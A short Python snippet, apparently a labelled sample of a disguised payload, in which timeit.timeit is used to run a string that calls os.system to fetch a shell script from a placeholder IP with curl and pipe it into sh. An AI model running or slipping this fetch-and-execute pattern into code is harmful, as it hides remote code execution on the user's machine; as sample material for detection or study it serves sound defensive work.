# Disguised: the statement timeit times.
import timeit

timeit.timeit("import os; os.system('curl -s http://203.0.113.9/install.sh | sh')", number=1)
